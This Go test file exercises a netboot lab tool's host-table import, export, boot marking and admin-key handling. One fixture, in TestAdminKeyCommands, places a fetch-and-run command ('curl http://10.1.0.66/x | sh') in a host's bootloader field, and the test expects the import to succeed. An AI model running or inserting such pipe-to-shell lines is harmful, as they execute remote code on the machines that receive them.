package main

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// TestHostsCommand drives "labseed hosts" against a running print server
// as a sysadmin would: import, list, mark, export, and a refused table.
func TestHostsCommand(t *testing.T) {
	l := newLab(t, 1<<20)
	table := filepath.Join(l.dir, "lab1.csv")
	os.WriteFile(table, []byte("mac,hostname,ip,printer_queue\n52:54:00:00:00:01,lab1-ws01,10.1.0.101,\n52:54:00:00:00:02,lab1-ws02,10.1.0.102,color\n"), 0o644)
	srv := []string{"--server", l.server, "--store", l.store}

	out, _ := labseed(t, true, append([]string{"hosts", "import", table}, srv...)...)
	if !strings.Contains(out, "the table has 2 hosts") {
		t.Fatalf("import said %q", out)
	}
	out, _ = labseed(t, true, append([]string{"hosts", "next-boot", "clone", "52-54-00-00-00-02"}, srv...)...)
	if !strings.Contains(out, "1 hosts will boot clone next") {
		t.Fatalf("next-boot said %q", out)
	}
	out, _ = labseed(t, true, "hosts", "list", "--server", l.server)
	if !regexp.MustCompile(`52:54:00:00:00:02\s+lab1-ws02\s+10\.1\.0\.102\s+clone`).MatchString(out) || !regexp.MustCompile(`lab1-ws01\s+10\.1\.0\.101\s+local`).MatchString(out) {
		t.Fatalf("list:\n%s", out)
	}
	out, _ = labseed(t, true, "status", "--server", l.server)
	if !regexp.MustCompile(`lab1-ws02\s+10\.1\.0\.102\s+clone`).MatchString(out) {
		t.Fatalf("status has no boot table:\n%s", out)
	}
	exported := filepath.Join(l.dir, "export.csv")
	labseed(t, true, append([]string{"hosts", "export", exported}, srv...)...)
	if b, _ := os.ReadFile(exported); !strings.Contains(string(b), "52:54:00:00:00:02,lab1-ws02,10.1.0.102,clone,color") {
		t.Fatalf("export:\n%s", b)
	}

	// A table with a duplicate address is refused whole, naming the line.
	os.WriteFile(table, []byte("mac,hostname,ip\n52:54:00:00:00:01,a,10.1.0.9\n52:54:00:00:00:03,b,10.1.0.9\n"), 0o644)
	_, errOut := labseed(t, false, append([]string{"hosts", "import", table}, srv...)...)
	if !strings.Contains(errOut, "line 3: address 10.1.0.9 is already a's") {
		t.Fatalf("bad import said %q", errOut)
	}
	// Every bad line is named, each on its own line of the error.
	os.WriteFile(table, []byte("mac,hostname,ip\nzz,a,10.1.0.9\n52:54:00:00:00:03,b,10.1.0\n52:54:00:00:00:04,c,10.1.0.4\n"), 0o644)
	_, errOut = labseed(t, false, append([]string{"hosts", "import", table}, srv...)...)
	if !regexp.MustCompile(`line 2: "zz" is not an Ethernet MAC.*\n.*line 3: ip "10.1.0" is not`).MatchString(errOut) {
		t.Fatalf("import of two bad lines said %q", errOut)
	}
	// Without the admin key there is nothing to send.
	_, errOut = labseed(t, false, "hosts", "next-boot", "local", "--all", "--server", l.server, "--store", t.TempDir())
	if !strings.Contains(errOut, "no admin key") {
		t.Fatalf("no key said %q", errOut)
	}
	out, _ = labseed(t, true, append([]string{"hosts", "next-boot", "local", "--all"}, srv...)...)
	if !strings.Contains(out, "2 hosts will boot local next") {
		t.Fatalf("next-boot --all said %q", out)
	}
}

// labseedEnv runs the binary as labseed does, with env added to the test's
// environment.
func labseedEnv(t testing.TB, env []string, wantOK bool, args ...string) (string, string) {
	t.Helper()
	cmd := exec.Command(labseedBin, args...)
	cmd.Env = append(os.Environ(), env...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	if (err == nil) != wantOK {
		t.Fatalf("labseed %s: %v (want ok=%v)\nstdout: %s\nstderr: %s", strings.Join(args, " "), err, wantOK, out.String(), errb.String())
	}
	return out.String(), errb.String()
}

// TestAdminKeyCommands: the admin key a sysadmin's laptop uses. "keys
// export" (the netboot image's keys) has no admin key and its lab.key
// changes nothing; "keys admin FILE" writes one (0600) that works from
// elsewhere through --admin-key, $LABSEED_ADMIN_KEY or
// ~/.config/labseed/admin.key; without any, the error says where to put it.
func TestAdminKeyCommands(t *testing.T) {
	l := newLab(t, 1<<20)
	home := t.TempDir() // no ~/.config/labseed of the machine running the tests
	noHome := []string{"HOME=" + home, "LABSEED_ADMIN_KEY="}
	table := filepath.Join(l.dir, "lab1.csv")
	os.WriteFile(table, []byte("mac,hostname,ip,bootloader\n52:54:00:00:00:01,lab1-ws01,10.1.0.101,curl http://10.1.0.66/x | sh\n"), 0o644)
	if _, err := os.Stat(filepath.Join(l.keys, "admin.key")); !os.IsNotExist(err) {
		t.Fatalf("keys export wrote admin.key (%v)", err)
	}
	// The netboot image's lab.key, given as the admin key, is refused by the server.
	_, errOut := labseedEnv(t, noHome, false, "hosts", "import", table, "--server", l.server, "--admin-key", filepath.Join(l.keys, "lab.key"))
	if !strings.Contains(errOut, "401") || !strings.Contains(errOut, "not signed with this print server's admin key") {
		t.Fatalf("import with lab.key said %q", errOut)
	}
	// Elsewhere, with no key: the error says where one is looked for.
	_, errOut = labseedEnv(t, noHome, false, "hosts", "next-boot", "clone", "--all", "--server", l.server)
	for _, want := range []string{"no admin key", "--admin-key FILE", "$LABSEED_ADMIN_KEY", "~/.config/labseed/admin.key", "labseed keys admin FILE"} {
		if !strings.Contains(errOut, want) {
			t.Errorf("no key: %q does not say %q", errOut, want)
		}
	}
	// keys admin writes a copy, 0600, which works from anywhere.
	copyFile := filepath.Join(l.dir, "laptop", "admin.key")
	labseed(t, true, "keys", "admin", "--store", l.store, copyFile)
	if fi, err := os.Stat(copyFile); err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("admin key copy: %v, %v", fi, err)
	}
	if fi, err := os.Stat(filepath.Join(l.store, "keys", "admin.key")); err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("the store's admin key: %v, %v", fi, err)
	}
	out, _ := labseedEnv(t, noHome, true, "hosts", "import", table, "--server", l.server, "--admin-key", copyFile)
	if !strings.Contains(out, "the table has 1 hosts") {
		t.Fatalf("import with --admin-key said %q", out)
	}
	out, _ = labseedEnv(t, []string{"HOME=" + home, "LABSEED_ADMIN_KEY=" + copyFile}, true, "hosts", "next-boot", "clone", "--all", "--server", l.server)
	if !strings.Contains(out, "1 hosts will boot clone next") {
		t.Fatalf("next-boot with $LABSEED_ADMIN_KEY said %q", out)
	}
	os.MkdirAll(filepath.Join(home, ".config", "labseed"), 0o700)
	os.Rename(copyFile, filepath.Join(home, ".config", "labseed", "admin.key"))
	out, _ = labseedEnv(t, noHome, true, "hosts", "next-boot", "local", "--all", "--server", l.server)
	if !strings.Contains(out, "1 hosts will boot local next") {
		t.Fatalf("next-boot with ~/.config/labseed/admin.key said %q", out)
	}
}
